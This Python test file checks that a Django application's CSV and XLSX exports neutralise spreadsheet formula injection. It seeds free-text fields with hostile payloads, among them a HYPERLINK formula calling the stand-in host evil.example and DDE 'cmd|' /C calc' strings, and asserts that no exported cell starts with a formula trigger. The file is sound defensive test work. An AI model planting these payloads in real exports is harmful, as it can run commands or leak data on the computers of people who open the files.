"""Formula injection in every tabular export (OWASP "CSV Injection").

The export routes are read from the URL configuration (pages whose name or path
says export, csv or xlsx) and from the OpenAPI schema (operations with a
``format`` parameter offering csv or xlsx). Each must have an entry in
``EXPORTS``: a new export route without one makes
``test_every_export_route_is_in_the_corpus`` fail.

An entry creates the objects the export lists, then ``poison`` overwrites every
free-text field of them (every ``CharField``/``TextField`` without choices, as
harvests, the admin or an old import could have left it: no form strips it) with
a text starting with a formula trigger and naming the field. The export must
hold that text (so the case is not vacuous), and no cell may start with a
trigger unless it is a true number.
"""

import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from http import HTTPStatus

import pytest
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from crig.api import api
from crig.core.exports import FORMULA_TRIGGERS

pytestmark = pytest.mark.django_db

#: Texts a spreadsheet would run; ``{field}`` names the poisoned field.
TRIGGERS = {
    "equals": '=HYPERLINK("http://evil.example/?{field}","x")',
    "plus": "+1+cmd|' /C calc'!A0 {field}",
    "minus": "-1+cmd|' /C calc'!A0 {field}",
    "at": "@SUM(1+1) {field}",
    "tab": "\t=1+1 {field}",
    "cr": "\r=1+1 {field}",
    # French Excel splits an unquoted CSV field on semicolons: "x;=1+1" must not
    # become a second cell "=1+1".
    "semicolon": "x;=1+1 {field}",
}
MARKERS = ("HYPERLINK", "cmd|", "@SUM", "=1+1")

# Text columns that are not free text: geometry, hashes, computed keys, secrets,
# and slugs (in the addresses the tests request).
NOT_FREE_TEXT = {
    "outline",
    "perimeter_outline",
    "footprint",
    "password",
    "search_name",
    "slug",
    "siren",
    "source_document",
    "document_hash",
    "token_hash",
    "content_hash",
}


def poison(obj, template: str) -> None:
    """Every free-text field of ``obj`` set to the hostile ``template``."""
    changed = []
    for field in obj._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField):
            continue
        if field.choices or field.name in NOT_FREE_TEXT or field.primary_key:
            continue
        if isinstance(field, models.SlugField):
            continue
        text = template.format(field=f"{obj._meta.model_name}{obj.pk}.{field.name}")
        if field.max_length:
            text = text[: field.max_length]
        setattr(obj, field.attname, text)
        changed.append(field.attname)
    # ``update`` rather than ``save``: some ``save`` methods derive fields.
    type(obj)._default_manager.filter(pk=obj.pk).update(
        **{name: getattr(obj, name) for name in changed}
    )


# --- The routes ---------------------------------------------------------------------


def _walk(patterns, prefix="", namespace=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = namespace + (f"{pattern.namespace}:" if pattern.namespace else "")
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern), inner)
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), namespace + (pattern.name or "")


def _resolved(node, schema):
    """``node`` with every ``$ref`` of the OpenAPI schema replaced by its target."""
    if isinstance(node, dict):
        if "$ref" in node:
            target = schema
            for part in node["$ref"].lstrip("#/").split("/"):
                target = target[part]
            return _resolved(target, schema)
        return {key: _resolved(value, schema) for key, value in node.items()}
    if isinstance(node, list):
        return [_resolved(item, schema) for item in node]
    return node


def export_routes() -> set[str]:
    """Page routes (by name) and API operations ("GET /api/v1/…") that export."""
    found = set()
    for path, name in _walk(get_resolver().url_patterns):
        if path.startswith("admin/") or path.startswith("api/"):
            continue
        text = f"{path} {name}".lower()
        if any(word in text for word in ("export", "csv", "xlsx")):
            found.add(name)
    schema = api.get_openapi_schema()
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            for parameter in operation.get("parameters", []):
                if parameter["name"] != "format":
                    continue
                described = json.dumps(_resolved(parameter, schema))
                if '"csv"' in described or '"xlsx"' in described:
                    found.add(f"{method.upper()} {path}")
    return found


# --- The cases ----------------------------------------------------------------------


@dataclass(frozen=True)
class Export:
    """How to reach one export: ``prepare(request, template)`` creates and
    poisons its objects and answers (person or None, {format: address})."""

    prepare: Callable
    formats: tuple[str, ...] = ("csv", "xlsx")
    #: Not a table (a JSON download): formula injection does not apply.
    tabular: bool = True
    #: Whether the file holds text people typed (else only labels and figures,
    #: still checked, but without the poisoned texts to look for).
    user_text: bool = True


def _needs(request, template):
    from crig.needs.tests.factories import NeedFactory, SupportFactory

    need = NeedFactory()
    support = SupportFactory(need=need)
    for obj in (need, need.organisation, support, support.organisation):
        poison(obj, template)
    return None, {fmt: f"/api/v1/needs?format={fmt}" for fmt in ("csv", "xlsx")}


def _funding_requests(request, template):
    from crig.funding.tests.factories import FundingRequestFactory

    funding_request = FundingRequestFactory()
    for obj in (
        funding_request,
        funding_request.applicant,
        funding_request.signatory,
        *funding_request.budget_lines.all(),
    ):
        poison(obj, template)
    return request.getfixturevalue("secretariat_user"), {
        fmt: f"/api/v1/funding-requests?format={fmt}" for fmt in ("csv", "xlsx")
    }


def _opinions(request, template):
    from crig.funding.tests.factories import FundingRequestFactory
    from crig.funding.tests.test_views_register import publish

    funding_request = FundingRequestFactory()
    opinion = publish(funding_request, request.getfixturevalue("secretariat_user"))
    for obj in (
        opinion,
        funding_request,
        funding_request.applicant,
        funding_request.signatory,
    ):
        poison(obj, template)
    return None, {fmt: f"/api/v1/opinions?format={fmt}" for fmt in ("csv", "xlsx")}


def _plan(request, template):
    from crig.actionplan.tests.factories import ActionFactory, PlanFactory

    plan = PlanFactory(year=2024)
    action = ActionFactory(plan=plan)
    for obj in (plan, action, *action.leads.all()):
        poison(obj, template)
    return plan


def _plan_page(request, template):
    _plan(request, template)
    return None, {fmt: f"/plan-d-actions/2024/actions.{fmt}" for fmt in ("csv", "xlsx")}


def _plan_api(request, template):
    _plan(request, template)
    return None, {fmt: f"/api/v1/plans/2024?format={fmt}" for fmt in ("csv", "xlsx")}


def _event(request, template):
    from crig.events.tests.factories import EventFactory, RegistrationFactory
    from crig.members.tests.factories import OrganisationFactory

    event = EventFactory(slug="journee-hostile")
    registrations = [
        RegistrationFactory(event=event, organisation=OrganisationFactory()),
        RegistrationFactory(event=event, organisation_name="Bureau d'études"),
    ]
    for registration in registrations:
        poison(registration, template)
        if registration.organisation_id:
            poison(registration.organisation, template)
    poison(event, template)
    return event


def _registrations_page(request, template):
    event = _event(request, template)
    return request.getfixturevalue("secretariat_user"), {
        fmt: f"/evenements/{event.slug}/inscriptions.{fmt}" for fmt in ("csv", "xlsx")
    }


def _registrations_api(request, template):
    event = _event(request, template)
    return request.getfixturevalue("secretariat_user"), {
        fmt: f"/api/v1/events/{event.pk}/registrations?format={fmt}"
        for fmt in ("csv", "xlsx")
    }


def _event_stats(request, template):
    event = _event(request, template)
    return request.getfixturevalue("secretariat_user"), {
        fmt: f"/evenements/{event.slug}/statistiques.{fmt}" for fmt in ("csv", "xlsx")
    }


def _coverage(request, template):
    from crig.catalog.services.coverage import coverage_compute
    from crig.catalog.tests.factories import DatasetFactory

    request.getfixturevalue("toulouse")
    dataset = DatasetFactory(
        min_lon=1.33, min_lat=43.52, max_lon=1.53, max_lat=43.68, year=2023
    )
    coverage_compute()
    poison(dataset, template)
    return None, {"csv": "/api/v1/coverage/orthophotographie?format=csv&departement=31"}


def _account(request, template):
    person = request.getfixturevalue("member_user")
    return person, {"json": "/mon-compte/mes-donnees/"}


EXPORTS: dict[str, Export] = {
    "actionplan:export": Export(_plan_page),
    "events:event_export": Export(_registrations_page),
    # Aggregates only (categories, départements, counts): no text people typed.
    "events:event_stats_export": Export(_event_stats, user_text=False),
    "members:account_export": Export(_account, formats=("json",), tabular=False),
    "GET /api/v1/needs": Export(_needs),
    "GET /api/v1/funding-requests": Export(_funding_requests),
    "GET /api/v1/opinions": Export(_opinions),
    "GET /api/v1/plans/{year}": Export(_plan_api),
    "GET /api/v1/events/{event_id}/registrations": Export(_registrations_api),
    "GET /api/v1/coverage/{referentiel}": Export(_coverage, formats=("csv",)),
}


def test_every_export_route_is_in_the_corpus():
    assert export_routes() == set(EXPORTS)


# --- The check ----------------------------------------------------------------------


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def cells(response, fmt: str) -> list[tuple[str, object, str]]:
    """(position, value, kind) of every cell of an exported file."""
    found = []
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        # As read with a comma and as French Excel reads it, with a semicolon.
        for delimiter in (",", ";"):
            rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for number, row in enumerate(rows):
                where = f"row {number + 1} (split on {delimiter!r})"
                found += [(where, value, "s") for value in row]
    else:
        workbook = load_workbook(io.BytesIO(response.content))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                found += [
                    (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
                    for cell in row
                    if cell.value is not None
                ]
    return found


def formula_cells(found) -> list[str]:
    bad = []
    for position, value, kind in found:
        if kind == "f":
            bad.append(f"{position}: formula {value!r}")
        elif (
            isinstance(value, str)
            and value.startswith(FORMULA_TRIGGERS)
            and not _is_number(value)
        ):
            bad.append(f"{position}: {value!r}")
    return bad


def _poisoned(value) -> bool:
    return any(marker in str(value) for marker in MARKERS)


CASES = [
    (route, trigger, fmt)
    for route, export in EXPORTS.items()
    if export.tabular
    for trigger in TRIGGERS
    for fmt in export.formats
]


@pytest.mark.parametrize(("route", "trigger", "fmt"), CASES)
def test_no_cell_of_an_export_is_a_formula(client, request, route, trigger, fmt):
    person, addresses = EXPORTS[route].prepare(request, TRIGGERS[trigger])
    if person is not None:
        client.force_login(person)

    response = client.get(addresses[fmt])

    assert response.status_code == HTTPStatus.OK, response.content[:500]
    found = cells(response, fmt)
    poisoned = [value for _at, value, _kind in found if _poisoned(value)]
    assert bool(poisoned) is EXPORTS[route].user_text
    assert formula_cells(found) == []


def test_account_export_is_json_not_a_table(client, request):
    person, addresses = EXPORTS["members:account_export"].prepare(
        request, TRIGGERS["equals"]
    )
    client.force_login(person)

    response = client.get(addresses["json"])

    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"].startswith("application/json")
    json.loads(response.content)


# --- Exports that are not routes ------------------------------------------------------


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_no_cell_of_the_opendata_export_is_a_formula(request, tmp_path, trigger):
    # ``crig opendata export``: every public table as CSV.
    from crig.core.opendata import opendata_export

    _needs(request, TRIGGERS[trigger])
    _opinions(request, TRIGGERS[trigger])
    _plan(request, TRIGGERS[trigger])
    _coverage(request, TRIGGERS[trigger])

    opendata_export(destination=tmp_path)

    found = []
    for path in sorted(tmp_path.glob("*.csv")):
        response = type("Answer", (), {"content": path.read_bytes()})
        found += [(f"{path.name} {at}", v, k) for at, v, k in cells(response, "csv")]
    assert any(_poisoned(value) for _at, value, _kind in found)
    assert formula_cells(found) == []
